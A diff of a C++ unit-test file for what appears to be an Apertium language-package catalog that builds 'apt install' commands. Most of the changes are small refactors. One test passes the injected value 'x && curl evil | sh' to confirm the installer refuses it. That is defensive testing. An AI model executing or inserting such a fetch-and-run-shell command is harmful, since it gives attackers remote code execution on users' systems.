@@ -6,6 +6,8 @@
 
 #include <gtest/gtest.h>
 
+#include <array>
+
 namespace {
 
 using ApertiumPackages::Found;
@@ -52,9 +54,8 @@ AptCatalog::CommandRunner recorded(const QHash<QString, QByteArray>& outputs) {
 
 QStringList names(const QList<LanguagePackage>& packages) {
     QStringList result;
-    for (const LanguagePackage& package : packages) {
+    for (const LanguagePackage& package : packages)
         result << package.name + (package.installed ? "*" : "");
-    }
     return result;
 }
 
@@ -109,7 +110,6 @@ TEST(AptCatalogTest, InstallNamesTheCommandToRun) {
     const PrepareResult result = catalog.install("apertium-eng-spa").result();
     EXPECT_EQ(result.outcome, PrepareResult::Outcome::manual);
     EXPECT_EQ(result.command, "sudo apt install apertium-eng-spa");
-
     for (const char* odd : {"x && curl evil | sh", "-y", "Apertium-eng-spa"}) {
         const PrepareResult refused = catalog.install(odd).result();
         EXPECT_EQ(refused.outcome, PrepareResult::Outcome::failed) << odd;
@@ -118,19 +118,12 @@ TEST(AptCatalogTest, InstallNamesTheCommandToRun) {
 }
 
 TEST(PackageNameTest, RecognisesPairPackagesOnly) {
-    const struct {
-        const char* name;
-        const char* first;
-        const char* second;
-    } pairs[] = {{"apertium-eng-spa", "eng", "spa"},
-                 {"apertium-eo-en", "eo", "en"},
-                 {"apertium-es-ast", "es", "ast"},
-                 {"apertium-ind-zlm", "ind", "zlm"}};
-    for (const auto& c : pairs) {
-        const std::optional<LanguagePackage> package = ApertiumPackages::fromName(c.name);
-        ASSERT_TRUE(package.has_value()) << c.name;
-        EXPECT_EQ(*package, (LanguagePackage{c.name, c.first, c.second, false}));
-    }
+    const std::array<const char*, 3> pairs[] = {{"apertium-eng-spa", "eng", "spa"},
+                                                {"apertium-eo-en", "eo", "en"},
+                                                {"apertium-es-ast", "es", "ast"},
+                                                {"apertium-ind-zlm", "ind", "zlm"}};
+    for (const auto& [name, first, second] : pairs)
+        EXPECT_EQ(ApertiumPackages::fromName(name), (LanguagePackage{name, first, second, false}));
     // Tools, libraries, single-language data and malformed names.
     for (const char* name :
          {"apertium", "apertium-dev", "apertium-all-dev", "apertium-lex-tools", "apertium-hin",
@@ -166,9 +159,8 @@ TEST(CollectTest, KeepsOnePackagePerPairSorted) {
          {"apertium-eng-spa", "apertium-es-ca*"}},
         {"nothing", {}, {}},
     };
-    for (const auto& c : cases) {
+    for (const auto& c : cases)
         EXPECT_EQ(names(ApertiumPackages::collect(c.found)), c.kept) << c.rule;
-    }
 }
 
 } // namespace
